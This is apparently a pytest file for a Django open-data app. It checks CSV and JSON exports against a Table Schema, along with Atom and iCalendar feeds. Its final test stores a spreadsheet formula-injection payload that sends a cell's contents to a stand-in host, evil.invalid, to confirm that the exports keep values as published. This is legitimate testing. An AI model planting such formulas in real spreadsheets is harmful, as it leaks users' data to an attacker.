"""Open data: CSV and JSON checked against their Table Schema; the Atom and iCalendar feeds."""

import csv
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.http import http_date

from accelerator.tests.pages import missing_from
from laureates.models import MilestoneStatus, SupportKind, Track
from laureates.tests.factories import DomainFactory, LaureateFactory, MilestoneFactory
from seasons.calls.calendar import escape, fold
from seasons.tests.factories import PARIS, CallFactory, SeasonFactory

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def laureates():
    season = SeasonFactory(number=2, slug="saison-2", title="Saison 2")
    umap = LaureateFactory(
        season=season, name="uMap", slug="umap", carrier="OpenStreetMap France",
        website="https://umap.openstreetmap.fr/fr/", track=Track.PRE_ACCELERATION,
        support_starts_on=dt.date(2023, 5, 17), support_ends_on=dt.date(2024, 8, 31),
        domains=[DomainFactory(name="Cartographie"), DomainFactory(name="Données ouvertes")],
    )  # fmt: skip
    grant = {"laureate": umap, "kind": SupportKind.FINANCIAL}
    MilestoneFactory(**grant, title="1re tranche", amount_granted=Decimal("80000"),
                     amount_paid=Decimal("80000"), status=MilestoneStatus.DONE,
                     completed_on=dt.date(2023, 10, 1))  # fmt: skip
    MilestoneFactory(**grant, title="2e tranche", amount_granted=Decimal("60000.50"))
    MilestoneFactory(**grant, title="Privée", amount_granted=Decimal("1000"), is_public=False)
    MilestoneFactory(**grant, title="Annulée", amount_granted=Decimal("5000"),
                     status=MilestoneStatus.CANCELLED)  # fmt: skip
    LaureateFactory(
        season=SeasonFactory(number=1, slug="saison-1", title="Saison 1"), name="Vikidia",
        slug="vikidia", carrier="Association Vikidia, « encyclopédie »", website="",
    )  # fmt: skip
    LaureateFactory(season=season, name="Caché", slug="cache", published=False)
    return umap


def schema(client):
    response = client.get(reverse("open_data:schema"))
    assert response["Content-Type"] == "application/schema+json; charset=utf-8"
    return json.loads(response.content)


def conforms(value, field):
    """Whether a CSV value conforms to its Table Schema field."""
    constraints = field.get("constraints", {})
    if value == "":
        return not constraints.get("required")
    if "enum" in constraints and value not in constraints["enum"]:
        return False
    checks = {
        "integer": lambda v: str(int(v)) == v and int(v) >= constraints.get("minimum", 1),
        "number": lambda v: Decimal(v).as_tuple().exponent == -2,
        "date": lambda v: dt.date.fromisoformat(v).isoformat() == v,
        "string": lambda v: field["format"] != "uri" or v.startswith(("https://", "http://")),
    }
    return checks[field["type"]](value)


def test_csv_rows_and_headers_match_the_schema(client, laureates):
    response = client.get(reverse("open_data:laureates_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'inline; filename="laureats.csv"'
    assert (
        response["Link"]
        == '<http://testserver/donnees-ouvertes/laureats.schema.json>; rel="describedby"'
    )
    text = response.content.decode("utf-8")
    assert text.endswith("\r\n")
    fields = schema(client)["fields"]
    reader = list(csv.reader(io.StringIO(text)))
    assert reader[0] == [f["name"] for f in fields]
    assert reader[1:] == [
        ["vikidia", "Vikidia", "Association Vikidia, « encyclopédie »", "1", "Saison 1", "",
         "full_support", "2023-05-15", "2024-05-14", "", "http://testserver/laureats/vikidia/", ""],
        ["umap", "uMap", "OpenStreetMap France", "2", "Saison 2", "Cartographie;Données ouvertes",
         "pre_acceleration", "2023-05-17", "2024-08-31", "https://umap.openstreetmap.fr/fr/",
         "http://testserver/laureats/umap/", "140000.50"],
    ]  # fmt: skip
    for row in reader[1:]:
        for value, field in zip(row, fields, strict=True):
            assert conforms(value, field), (field["name"], value)
    identifiers = [row[0] for row in reader[1:]]
    assert len(set(identifiers)) == len(identifiers)


def test_csv_last_modified_is_the_latest_change(client, laureates):
    response = client.get(reverse("open_data:laureates_csv"))
    latest = max(m.updated_at for m in laureates.milestones.all())
    assert response["Last-Modified"] == http_date(latest.timestamp())


def test_json_records_are_the_csv_rows_typed_with_licence_and_update(client, laureates):
    response = client.get(reverse("open_data:laureates_json"))
    assert response["Content-Type"] == "application/json"
    document = json.loads(response.content)
    assert document["licence"] == {
        "name": "etalab-2.0",
        "title": "Licence Ouverte / Open Licence version 2.0",
        "path": "https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
    }
    assert document["schema"] == "http://testserver/donnees-ouvertes/laureats.schema.json"
    assert dt.datetime.fromisoformat(document["mis_a_jour"]).tzinfo is not None
    fields = [f["name"] for f in schema(client)["fields"]]
    assert [list(record) for record in document["laureats"]] == [fields, fields]
    assert document["laureats"][1] == {
        "identifiant": "umap", "nom": "uMap", "porteur": "OpenStreetMap France", "saison": 2,
        "saison_titre": "Saison 2", "domaines": "Cartographie;Données ouvertes",
        "parcours": "pre_acceleration", "debut_accompagnement": "2023-05-17",
        "fin_accompagnement": "2024-08-31", "site_web": "https://umap.openstreetmap.fr/fr/",
        "page": "http://testserver/laureats/umap/", "montant_accorde": 140000.5,
    }  # fmt: skip
    assert document["laureats"][0]["site_web"] is None
    assert document["laureats"][0]["montant_accorde"] is None


def test_schema_describes_columns_in_french_whatever_the_visitor_language(client):
    client.get(reverse("switch_language", args=["en"]))
    described = schema(client)
    assert sorted(described) == [
        "$schema", "description", "fields", "licenses", "missingValues", "name", "primaryKey",
        "title",
    ]  # fmt: skip
    assert described["primaryKey"] == "identifiant"
    assert described["licenses"][0]["name"] == "etalab-2.0"
    assert described["fields"][0] == {
        "name": "identifiant",
        "type": "string",
        "format": "default",
        "title": "Identifiant",
        "description": "L’identifiant stable du lauréat, qui termine aussi l’adresse de sa page.",
        "constraints": {"required": True, "unique": True},
    }


def test_exports_without_any_laureate(client):
    assert client.get(reverse("open_data:laureates_csv")).content.decode().count("\r\n") == 1
    document = json.loads(client.get(reverse("open_data:laureates_json")).content)
    assert (document["laureats"], document["mis_a_jour"]) == ([], None)


def test_open_data_page_names_licence_last_update_and_columns(client, laureates):
    html = client.get(reverse("open_data:index")).content.decode()
    assert missing_from(html, "Licence Ouverte / Open Licence version 2.0</a>",
                        "Dernière mise à jour le ",
                        "La liste des 2 lauréats publiés, librement réutilisable.",
                        "<td><code>montant_accorde</code></td>",
                        'href="/donnees-ouvertes/laureats.csv"') == []  # fmt: skip


def test_atom_feed_lists_new_published_laureates(client, laureates):
    response = client.get(reverse("open_data:laureates_feed"))
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    feed = ET.fromstring(response.content)  # noqa: S314 -- our own feed, in a test
    assert feed.tag == f"{ATOM}feed"
    assert (
        feed.find(f"{ATOM}title").text
        == "Accélérateur d’initiatives citoyennes — nouveaux lauréats"
    )
    # RFC 4287: a feed has an id, a title, an updated date and a link; so does each entry.
    assert feed.find(f"{ATOM}id").text == "http://testserver/laureats/"
    assert dt.datetime.fromisoformat(feed.find(f"{ATOM}updated").text).tzinfo is not None
    entries = feed.findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == ["Vikidia", "uMap"]
    assert entries[1].find(f"{ATOM}link").get("href") == "http://testserver/laureats/umap/"
    assert entries[1].find(f"{ATOM}id").text == "http://testserver/laureats/umap/"
    for entry in entries:
        assert dt.datetime.fromisoformat(entry.find(f"{ATOM}updated").text).tzinfo is not None
    assert [e.find(f"{ATOM}author/{ATOM}name").text for e in entries] == [
        "Association Vikidia, « encyclopédie »",
        "OpenStreetMap France",
    ]
    assert entries[1].find(f"{ATOM}summary").text == laureates.summary


def test_ical_escapes_text_values():
    assert escape("a, b; c\\ d\nsuite") == "a\\, b\\; c\\\\ d\\nsuite"


def test_ical_folds_long_lines_at_75_octets_without_cutting_characters():
    line = "SUMMARY:" + "é" * 80
    folded = fold(line)
    parts = folded.split("\r\n")
    # 8 octets + 33 × 2 = 74: a 75th octet would cut an « é » in two.
    assert [len(part.encode()) for part in parts] == [74, 75, 21]
    assert all(part.startswith(" ") for part in parts[1:])
    assert "".join(part[1:] if i else part for i, part in enumerate(parts)) == line


def test_ical_feed_of_call_deadlines(client):
    call = CallFactory(
        title="Communs numériques, 2e relève; DINUM",
        season__title="Saison 2",
        closes_at=dt.datetime(2023, 9, 8, 12, tzinfo=PARIS),
    )
    CallFactory(season__published=False, title="Appel caché")
    response = client.get(reverse("open_data:call_deadlines"))
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    text = response.content.decode()
    assert "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    unfolded = text.replace("\r\n ", "")
    lines = unfolded.split("\r\n")
    assert lines[:6] == [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//Accélérateur d’initiatives citoyennes//Échéances des appels//FR",
        "CALSCALE:GREGORIAN",
        "METHOD:PUBLISH",
        "X-WR-CALNAME:Accélérateur d’initiatives citoyennes — Échéances des appels",
    ]
    assert lines[-2:] == ["END:VCALENDAR", ""]
    assert "SUMMARY:Clôture : Communs numériques\\, 2e relève\\; DINUM\r\n" in unfolded
    assert "DTSTART:20230908T100000Z\r\n" in unfolded
    assert f"UID:call-{call.pk}-deadline@testserver\r\n" in unfolded
    assert "Appel caché" not in unfolded
    assert unfolded.count("BEGIN:VEVENT") == unfolded.count("END:VEVENT") == 1


def test_csv_keeps_a_carrier_that_looks_like_a_formula_as_published(client):
    """Open data stays faithful (docs/open-data.md): the CSV and the JSON give the value
    exactly as published, where the staff's spreadsheet exports neutralise it."""
    formula = '=HYPERLINK("http://evil.invalid/?x="&A1,"Cliquez ici")'
    LaureateFactory(slug="piege", carrier=formula, name="@Piège")
    text = client.get(reverse("open_data:laureates_csv")).content.decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(text))
    record = json.loads(client.get(reverse("open_data:laureates_json")).content)["laureats"][0]
    assert (row["porteur"], row["nom"]) == (formula, "@Piège")
    assert (record["porteur"], record["nom"]) == (formula, "@Piège")
